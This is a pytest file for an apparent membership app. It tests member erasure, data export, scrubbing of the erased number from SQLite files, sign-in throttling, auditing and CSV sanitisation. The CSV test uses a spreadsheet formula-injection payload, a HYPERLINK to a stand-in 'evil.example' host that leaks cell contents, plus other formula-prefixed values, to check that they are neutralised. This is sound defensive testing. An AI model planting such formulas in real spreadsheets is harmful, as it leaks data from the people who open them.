@@ -1,0 +1,290 @@
+"""Members' data: erasure (API, CLI, console), erased stays erased, export, the number gone from
+the SQLite file and its log, CSV cells that cannot run, sign-in throttling, the audit log."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+import re
+from collections.abc import Callable
+from pathlib import Path
+from typing import Any
+
+import httpx
+import pytest
+import sqlalchemy as sa
+
+from rollcall.audit import AuditEntry
+from rollcall.callpower.models import Call
+from rollcall.db import Database
+from rollcall.spreadsheets import inert
+from tests.conftest import ADMIN_TOKEN, API_KEY, SEED_CALL, RunningApp, wait_for
+from tests.helpers import LEGACY_PATH, map_seed_campaign, sign_in
+
+STAFF = {"Authorization": f"Bearer {ADMIN_TOKEN}"}
+KEY = {"X-DS-Importer-API-Key": API_KEY}
+MEMBER = "+15559876543"  # the member who asks to be erased
+NATIONAL = "5559876543"
+OTHER = "+15551112222"
+
+
+def call(mobile: str, campaign: int, second: int, **changes: Any) -> dict[str, Any]:
+    return {
+        **SEED_CALL,
+        "mobile": mobile,
+        "callpower_campaign_id": campaign,
+        "call_timestamp": f"2017-11-07 18:54:{second:02d}.000001",
+        **changes,
+    }
+
+
+def user_of(client: httpx.Client, mobile: str) -> dict[str, Any] | None:
+    found = client.get("/api/v3/users", params={"filter[mobile]": mobile}, headers=STAFF).json()["data"]
+    return found[0] if found else None
+
+
+def posts_of(client: httpx.Client, user_id: str) -> list[dict[str, Any]]:
+    answer = client.get("/api/v3/posts", params={"filter[northstar_id]": user_id}, headers=STAFF)
+    return list(answer.json()["data"])
+
+
+def campaign_calls(client: httpx.Client) -> dict[int, dict[str, int]]:
+    campaigns = client.get("/api/v3/callpower/campaigns", headers=STAFF).json()["data"]
+    return {campaign["callpower_campaign_id"]: campaign["calls"] for campaign in campaigns}
+
+
+def member_with_history(client: httpx.Client, database: Database) -> str:
+    """The member called on two campaigns and once with a flaw (rejected); another member once."""
+    map_seed_campaign(database, 1)
+    map_seed_campaign(database, 2)
+    for record in (
+        call(MEMBER, 1, 1),
+        call(MEMBER, 2, 2),
+        call(MEMBER, 1, 3, campaign_target_title=None),  # no title: rejected, kept with the number
+        call(OTHER, 1, 4),
+    ):
+        client.post(LEGACY_PATH, json=record, headers=KEY)
+    wait_for(
+        lambda: (
+            user_of(client, MEMBER)
+            and user_of(client, OTHER)
+            and len(posts_of(client, user_of(client, MEMBER)["id"])) == 2
+        )
+    )
+    member = user_of(client, MEMBER)
+    assert member is not None
+    return str(member["id"])
+
+
+def test_erasing_a_member_removes_them_everywhere_and_keeps_the_counts(
+    client: httpx.Client, database: Database
+) -> None:
+    member_id = member_with_history(client, database)
+    other = user_of(client, OTHER)
+    assert other is not None
+    counts_before = campaign_calls(client)
+
+    exported = client.get(f"/api/v3/users/{member_id}/export", headers=STAFF)
+    assert exported.status_code == 200, exported.text
+    document = exported.json()
+    assert document["user"]["mobile"] == MEMBER
+    assert sorted(s["campaign_id"] for s in document["signups"]) == [1, 2]
+    assert len(document["posts"]) == 2
+    assert sorted(c["state"] for c in document["calls"]) == ["imported", "imported", "rejected"]
+    assert all(MEMBER in c["raw"] or NATIONAL in c["raw"] for c in document["calls"])
+
+    answer = client.delete(f"/api/v3/users/{member_id}", headers=STAFF)
+    assert answer.status_code == 200, answer.text
+    assert answer.json()["data"] == {"user_id": member_id, "signups": 2, "posts": 2, "calls": 3, "events": 1}
+
+    assert client.get(f"/api/v3/users/{member_id}", headers=STAFF).status_code == 404
+    assert client.get(f"/api/v3/users/{member_id}/export", headers=STAFF).status_code == 404
+    assert client.delete(f"/api/v3/users/{member_id}", headers=STAFF).status_code == 404
+    assert posts_of(client, member_id) == []
+    assert user_of(client, MEMBER) is None
+    erased = client.get("/api/v3/callpower/calls", params={"filter[state]": "erased"}, headers=STAFF).json()["data"]
+    assert len(erased) == 3
+    for stored in erased:
+        assert stored["mobile"] is None and stored["raw"] == "" and stored["record"] is None
+        assert stored["errors"] is None and stored["northstar_id"] is None and stored["post_id"] is None
+        assert stored["callpower_campaign_id"] in (1, 2)
+    assert sum(1 for stored in erased if stored["call_timestamp"]) == 2  # the imported two kept their time
+    # The other member is untouched; the campaigns' counts still count every call.
+    assert user_of(client, OTHER) == other
+    assert len(posts_of(client, other["id"])) == 1
+    counts_after = campaign_calls(client)
+    assert {n: sum(c.values()) for n, c in counts_after.items()} == {
+        n: sum(c.values()) for n, c in counts_before.items()
+    }
+    assert sum(c["erased"] for c in counts_after.values()) == 3
+
+    feed = client.get("/api/v3/events", params={"filter[type]": "user.erased"}, headers=STAFF).json()["data"]
+    assert [(e["type"], e["data"]) for e in feed] == [("user.erased", {"id": member_id})]
+    shown = client.get("/api/v3/events", params={"limit": 100}, headers=STAFF).json()["data"]
+    text = json.dumps(shown)
+    assert MEMBER not in text and NATIONAL not in text  # the call.rejected event was scrubbed too
+    assert {"id": member_id, "erased": True} in [e["data"] for e in shown if e["type"] == "user.created"]
+
+    with database.reading() as session:
+        entries = session.scalars(sa.select(AuditEntry).order_by(AuditEntry.id)).all()
+    assert [(e.action, e.subject) for e in entries] == [("member.exported", member_id), ("member.erased", member_id)]
+    assert all(re.fullmatch(r"token [0-9a-f]{12}", e.actor) for e in entries)
+    assert ADMIN_TOKEN not in json.dumps([e.actor for e in entries])
+    assert entries[1].details == {"user_id": member_id, "signups": 2, "posts": 2, "calls": 3, "events": 1}
+
+
+def test_an_erased_member_stays_erased_and_a_new_call_is_a_new_member(client: httpx.Client, database: Database) -> None:
+    member_id = member_with_history(client, database)
+    assert client.delete(f"/api/v3/users/{member_id}", headers=STAFF).status_code == 200
+    with database.reading() as session:
+        stored = session.scalar(sa.select(sa.func.count()).select_from(Call))
+
+    # CallPower replays its history: the old calls are recognised and recreate nothing.
+    for record in (call(MEMBER, 1, 1), call(MEMBER, 2, 2)):
+        answer = client.post(LEGACY_PATH, json=record, headers=KEY)
+        assert answer.status_code == 200, answer.text
+    with database.reading() as session:
+        assert session.scalar(sa.select(sa.func.count()).select_from(Call)) == stored
+    assert user_of(client, MEMBER) is None
+
+    # A call made after the erasure is new activity.
+    assert client.post(LEGACY_PATH, json=call(MEMBER, 1, 30), headers=KEY).status_code == 200
+    newcomer = wait_for(lambda: user_of(client, MEMBER))
+    assert newcomer["id"] != member_id
+    wait_for(lambda: len(posts_of(client, newcomer["id"])) == 1)
+
+
+def test_the_erased_number_is_nowhere_in_the_sqlite_file_or_its_log(
+    client: httpx.Client, database: Database, settings: Any
+) -> None:
+    if not settings.database_url.startswith("sqlite"):
+        pytest.skip("the byte search reads SQLite's files; PostgreSQL: docs/deploy.md on VACUUM")
+    member_id = member_with_history(client, database)
+    path = Path(settings.database_url.removeprefix("sqlite:///"))
+    before = path.read_bytes() + (
+        path.with_name(path.name + "-wal").read_bytes() if path.with_name(path.name + "-wal").exists() else b""
+    )
+    assert NATIONAL.encode() in before  # the search finds it while it is there
+
+    assert client.delete(f"/api/v3/users/{member_id}", headers=STAFF).status_code == 200
+    for file in (path, path.with_name(path.name + "-wal"), path.with_name(path.name + "-journal")):
+        if file.exists():
+            content = file.read_bytes()
+            assert NATIONAL.encode() not in content, file.name
+            assert MEMBER.encode() not in content, file.name
+    assert OTHER.encode() in path.read_bytes()  # what was not erased is still there
+
+
+def test_the_cli_erases_with_confirmation_exports_and_lists_the_audit(
+    client: httpx.Client, database: Database, cli: Callable[..., Any]
+) -> None:
+    member_id = member_with_history(client, database)
+    exported = json.loads(cli("users", "export", member_id).stdout)
+    assert exported["user"]["mobile"] == MEMBER and len(exported["calls"]) == 3
+
+    refused = cli("users", "erase", member_id, check=False)  # no --yes and no one to say yes
+    assert refused.returncode != 0
+    assert user_of(client, MEMBER) is not None
+
+    erased = json.loads(cli("users", "erase", member_id, "--yes", "--json").stdout)
+    assert erased == {"user_id": member_id, "signups": 2, "posts": 2, "calls": 3, "events": 1}
+    assert user_of(client, MEMBER) is None
+    gone = cli("users", "erase", member_id, "--yes", check=False)
+    assert gone.returncode == 1 and "error:" in gone.stderr and "Traceback" not in gone.stderr
+
+    entries = json.loads(cli("audit", "list", "--json").stdout)
+    assert [(e["action"], e["subject"]) for e in entries] == [
+        ("member.erased", member_id),
+        ("member.exported", member_id),
+    ]
+    assert all(e["actor"].startswith("cli") for e in entries)
+    assert entries[0]["details"]["posts"] == 2
+
+
+def test_an_operator_erases_a_member_from_the_console(app: RunningApp, page: Any, database: Database) -> None:
+    with app.client() as client:
+        member_id = member_with_history(client, database)
+    sign_in(page, app.url)
+    page.goto(f"{app.url}/console/users/{member_id}")
+    with page.expect_download() as download:
+        page.click("#export")
+    exported = json.loads(Path(download.value.path()).read_text())
+    assert exported["user"]["id"] == member_id
+    page.once("dialog", lambda dialog: dialog.dismiss())  # "Cancel" erases nothing
+    page.click("#erase")
+    with app.client() as client:
+        assert user_of(client, MEMBER) is not None
+    page.once("dialog", lambda dialog: dialog.accept())
+    page.click("#erase")
+    page.wait_for_url(re.compile(r".*/console/\?done="))
+    assert page.locator(f"text=User {member_id} erased").is_visible()
+    with app.client() as client:
+        assert user_of(client, MEMBER) is None
+    page.goto(f"{app.url}/console/audit")
+    rows = page.locator("#audit tbody tr")
+    assert rows.count() == 2
+    assert "member.erased" in rows.nth(0).inner_text() and member_id in rows.nth(0).inner_text()
+
+
+def test_posts_csv_cells_a_spreadsheet_would_run_come_out_as_text(app: RunningApp, database: Database) -> None:
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    map_seed_campaign(database, 1)
+    with app.client() as client:
+        for n, name in enumerate((formula, "+1+2", "-2+3", "@SUM(A1)", "\t=1", "Mickey Mouse")):
+            client.post(LEGACY_PATH, json=call(f"+1555000{n:04d}", 1, n, campaign_target_name=name), headers=KEY)
+        wait_for(lambda: len(client.get("/api/v3/posts", headers=STAFF).json()["data"]) == 6)
+        form = client.get("/console/sign-in").text
+        csrf = re.search(r'name="csrf_token" value="([^"]+)"', form).group(1)  # type: ignore[union-attr]
+        client.post("/console/sign-in", data={"csrf_token": csrf, "token": ADMIN_TOKEN})
+        campaign_id = client.get("/api/v3/actions", headers=STAFF).json()["data"][0]["campaign_id"]
+        download = client.get(f"/console/campaigns/{campaign_id}/posts.csv")
+    assert download.status_code == 200
+    rows = list(csv.DictReader(io.StringIO(download.text)))
+    names = sorted(row["campaign_target_name"] for row in rows)
+    # (the intake trims the tab of "\t=1"; the formula behind it is still made inert)
+    assert names == sorted(["'" + formula, "'+1+2", "'-2+3", "'@SUM(A1)", "'=1", "Mickey Mouse"])
+    cells = [cell for row in rows for cell in row.values() if cell and not re.fullmatch(r"\+[0-9]+", cell)]
+    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
+    assert [inert(text) for text in ("\tx", "\r=1", "+15551231234", "+1 555", -5)] == [
+        "'\tx",
+        "'\r=1",
+        "+15551231234",
+        "'+1 555",
+        -5,
+    ]
+
+
+def failures(metrics: str) -> dict[str, float]:
+    """The sign-in failures counted so far (the counters live as long as the test process)."""
+    found = dict(re.findall(r'rollcall_console_sign_in_failures_total\{reason="([^"]+)"\} ([0-9.e+]+)', metrics))
+    return {reason: float(found.get(reason, 0)) for reason in ("wrong token", "throttled")}
+
+
+def test_sign_in_is_throttled_per_address_and_counted(app_factory: Callable[..., RunningApp]) -> None:
+    """The sixth wrong token within the window is 429; once the window has passed, the right token
+    signs in. The window is a minute by default; here two seconds, so the test need not wait one."""
+    app = app_factory(sign_in_limit=(5, 2.0))
+    with app.client() as client:
+        before = failures(client.get("/metrics", headers=STAFF).text)
+        form = client.get("/console/sign-in").text
+        csrf = re.search(r'name="csrf_token" value="([^"]+)"', form).group(1)  # type: ignore[union-attr]
+
+        def attempt(token: str) -> httpx.Response:
+            return client.post("/console/sign-in", data={"csrf_token": csrf, "token": token})
+
+        assert [attempt("guess").status_code for _ in range(5)] == [401] * 5
+        sixth = attempt("guess")
+        assert sixth.status_code == 429
+        assert 1 <= int(sixth.headers["retry-after"]) <= 2
+        assert "try again in" in sixth.text
+        # Within the window even the right token waits: a guess gains nothing by being right.
+        assert attempt(ADMIN_TOKEN).status_code == 429
+        signed_in = wait_for(
+            lambda: (answer := attempt(ADMIN_TOKEN)).status_code == 303 and answer, timeout=5, interval=0.25
+        )
+        assert signed_in.headers["location"] == "/console/"
+        metrics = client.get("/metrics", headers=STAFF).text
+    after = failures(metrics)
+    assert after["wrong token"] - before["wrong token"] == 5
+    assert after["throttled"] - before["throttled"] >= 2
